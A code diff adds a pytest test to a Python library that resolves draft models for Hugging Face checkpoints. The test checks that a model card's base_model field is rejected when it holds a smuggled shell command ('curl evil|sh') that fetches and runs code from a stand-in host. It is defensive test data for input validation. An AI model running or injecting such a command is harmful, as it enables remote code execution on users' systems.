@@ -16,9 +16,10 @@ from transformers import (
     TorchAoConfig,
 )
 
+import tiny
 import tiny_checkpoints
 from dflash_hub import DFLASH_DRAFT_REGISTRY, resolve_dflash_draft_spec
-from dflash_hub.checkpoints import split_precision
+from dflash_hub.checkpoints import read_card, split_precision
 from dflash_hub.registry import CATALOGUE, drafts_for, explain_resolution
 from tiny_checkpoints import ARCHITECTURES, UNKNOWN_TO_TRANSFORMERS
 
@@ -363,3 +364,10 @@ def test_the_class_of_a_model_counts_where_nothing_else_tells(saved):
     assert model.config.architectures is None
     with pytest.raises(ValueError, match="no draft for Qwen3_5ForCausalLM fits its shape"):
         resolve_dflash_draft_spec(model.config.architectures, target=model)
+
+
+def test_a_name_on_a_card_that_is_no_name_of_the_hubs_is_not_repeated(tmp_path):
+    evil = 'Qwen/Qwen3-4B"; curl evil|sh #'
+    tiny.target("qwen3").config.save_pretrained(tmp_path)
+    (tmp_path / "README.md").write_text(f"---\nbase_model: '{evil}'\n---\n")
+    assert read_card(str(tmp_path), online=False) is None
